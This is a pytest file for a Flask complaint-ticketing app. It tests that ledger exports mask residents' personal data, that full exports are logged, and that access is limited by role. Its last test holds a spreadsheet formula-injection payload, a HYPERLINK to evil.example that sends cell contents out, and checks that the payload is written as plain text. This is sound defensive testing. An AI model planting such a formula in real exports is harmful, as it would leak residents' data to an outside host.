"""Ledger exports: .xlsx and CSV read back, masked by default, the full version logged."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import csrf_token, login
from tests.factories import TZ, World
from tests.ledger_day import DAY, hand_worked_day, local
from ticketing.extensions import db
from ticketing.models import RevealLog, Ticket
from ticketing.services import ledger
from ticketing.services.photos import PhotoStore

HEADERS = ["编号", "渠道", "受理时间", "诉求人", "联系电话", "地点", "诉求内容", "类别", "承办人", "状态",
           "办理情况", "办理时限", "是否超时", "满意度", "回访情况"]
URL = "/ledger/grid/CA-01/2026-11-18"


@pytest.fixture()
def days(world: World, store: PhotoStore) -> dict[str, Ticket]:
    tickets = hand_worked_day(world, store)
    ledger.compile_day(DAY, TZ, local(19, 10))
    return tickets


def read_xlsx(content: bytes) -> Any:
    return load_workbook(io.BytesIO(content)).active


def read_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_the_excel_file_has_the_offices_columns_a_frozen_header_and_real_dates(
        client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    login(client, world.gina)
    response = client.get(f"{URL}/export.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="ledger-CA-01-2026-11-18.xlsx"' in response.headers["Content-Disposition"]
    sheet = read_xlsx(response.data)
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["G"].width == 40  # 诉求内容 is the widest
    by_number = {row[0]: row for row in rows[1:]}
    assert list(by_number) == sorted(days[n].number for n in ("t1", "t2", "t3", "t5", "t8"))
    t8 = by_number[days["t8"].number]
    assert t8[1] == "网上报事" and t8[9] == "已派单"  # labels in Chinese, as the office files them
    assert t8[2] == datetime(2026, 11, 18, 10, 0)  # a real datetime, in Shanghai time
    assert sheet.cell(row=2, column=3).number_format == "yyyy-mm-dd hh:mm"
    assert (t8[3], t8[4]) == ("张**", "138****5678")
    assert t8[5] == "槐树院 1号楼 ***"
    assert t8[8] == world.gina.display_name
    assert t8[11] == datetime(2026, 11, 18, 23, 0) and t8[12] == "是"
    t5 = by_number[days["t5"].number]
    assert (t5[9], t5[10], t5[12], t5[13]) == ("已完结", "更换了管道", "否", "基本满意")
    assert by_number[days["t3"].number][11] is None  # no deadline while awaiting dispatch


def test_the_csv_file_is_utf8_with_a_bom_and_the_same_columns(
        client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    login(client, world.gina)
    response = client.get(f"{URL}/export.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = read_csv(response.data)
    assert rows[0] == HEADERS and len(rows) == 6
    t1 = next(row for row in rows if row[0] == days["t1"].number)
    assert t1[2] == "2026-11-17 23:59" and t1[3] == "张**" and t1[4] == "138****5678"
    assert t1[13] == "满意" and t1[12] == "否"
    assert "13812345678" not in response.get_data(as_text=True)


def test_a_supervisor_may_have_the_full_version_and_every_ticket_in_it_is_logged(
        client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    login(client, world.sam)
    token = csrf_token(client, URL)
    response = client.post(f"{URL}/export", data={"format": "csv", "csrf_token": token})
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    rows = read_csv(response.data)
    t1 = next(row for row in rows if row[0] == days["t1"].number)
    assert (t1[3], t1[4], t1[5]) == ("张三丰", "13812345678", "槐树院 1号楼 2单元301")
    logged = db.session.scalars(select(RevealLog)).all()
    assert sorted(r.ticket_id for r in logged) == sorted(days[n].id for n in ("t1", "t2", "t3", "t5", "t8"))
    assert {(r.user_id, r.purpose) for r in logged} == {(world.sam.id, "export")}


def test_the_masked_version_logs_nothing(client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    login(client, world.sam)
    assert client.get(f"{URL}/export.xlsx").status_code == 200
    assert db.session.scalars(select(RevealLog)).all() == []


def test_a_grid_worker_and_a_dispatcher_may_not_have_the_full_version(
        client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    for person in (world.gina, world.dora):
        other = client.application.test_client()
        login(other, person)
        token = csrf_token(other, URL)
        assert other.post(f"{URL}/export", data={"format": "xlsx", "csrf_token": token}).status_code == 403
    assert db.session.scalars(select(RevealLog)).all() == []


def test_an_unknown_format_is_not_a_file(client: FlaskClient, world: World, days: dict[str, Ticket]) -> None:
    login(client, world.gina)
    assert client.get(f"{URL}/export.pdf").status_code == 404


def test_flask_ledger_export_writes_the_masked_file(
        app: Flask, world: World, days: dict[str, Ticket], tmp_path: Path) -> None:
    runner = app.test_cli_runner()
    out = tmp_path / "ledger.xlsx"
    result = runner.invoke(args=["ledger", "export", "--date", "2026-11-18", "--grid", "CA-01",
                                 "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert "wrote 5 lines" in result.output
    rows = list(read_xlsx(out.read_bytes()).iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS and len(rows) == 6 and {row[3] for row in rows[1:]} == {"张**"}
    every = tmp_path / "all.csv"
    result = runner.invoke(args=["ledger", "export", "--date", "2026-11-18", "--format", "csv", "--output", str(every)])
    assert result.exit_code == 0, result.output
    assert len(read_csv(every.read_bytes())) == 1 + 8  # A1's five lines and A2's three


def test_flask_ledger_export_full_names_a_supervisor_and_logs_the_reveals(
        app: Flask, world: World, days: dict[str, Ticket], tmp_path: Path) -> None:
    runner = app.test_cli_runner()
    out = tmp_path / "full.csv"
    args = ["ledger", "export", "--date", "2026-11-18", "--format", "csv", "--output", str(out), "--full"]
    refused = runner.invoke(args=args)
    assert refused.exit_code == 1 and "--user" in refused.output and not out.exists()
    assert runner.invoke(args=[*args, "--user", "gina"]).exit_code == 1
    result = runner.invoke(args=[*args, "--user", "sam"])
    assert result.exit_code == 0, result.output
    assert "8 reveals logged" in result.output
    assert "13812345678" in out.read_text(encoding="utf-8-sig")
    assert {r.purpose for r in db.session.scalars(select(RevealLog))} == {"export"}


def test_flask_ledger_export_says_when_there_is_nothing_compiled(
        app: Flask, world: World, tmp_path: Path) -> None:
    runner = app.test_cli_runner()
    result = runner.invoke(args=["ledger", "export", "--date", "2026-11-18", "--output", str(tmp_path / "x.xlsx")])
    assert result.exit_code == 1 and "flask ledger compile --date 2026-11-18" in result.output
    nope = runner.invoke(args=["ledger", "export", "--date", "2026-11-18", "--grid", "NOPE",
                               "--output", str(tmp_path / "x.xlsx")])
    assert nope.exit_code == 1 and "no grid" in nope.output


def test_the_files_cover_the_day_asked_for(world: World, days: dict[str, Ticket]) -> None:
    from ticketing.models import Ledger
    from ticketing.services import ledger_export

    assert ledger_export.lines_of(Ledger.grid_id == world.grid_a1.id, DAY + timedelta(days=1)) == []
    assert len(ledger_export.lines_of(Ledger.grid_id == world.grid_a1.id, DAY)) == 5


def test_a_residents_formula_stays_text_in_both_files(world: World, days: dict[str, Ticket]) -> None:
    """A description that Excel would run as a formula is written as plain text."""
    from ticketing.models import Ledger
    from ticketing.services import ledger_export

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    days["t1"].description = hostile
    db.session.commit()
    lines = ledger_export.lines_of(Ledger.grid_id == world.grid_a1.id, DAY)
    sheet = read_xlsx(ledger_export.build(lines, "xlsx", "x", TZ, False).content)
    [cell] = [row[6] for row in sheet.iter_rows(min_row=2) if row[0].value == days["t1"].number]
    assert (cell.value, cell.data_type) == (hostile, "s")
    rows = read_csv(ledger_export.build(lines, "csv", "x", TZ, False).content)
    [text] = [row[6] for row in rows[1:] if row[0] == days["t1"].number]
    assert text == "'" + hostile
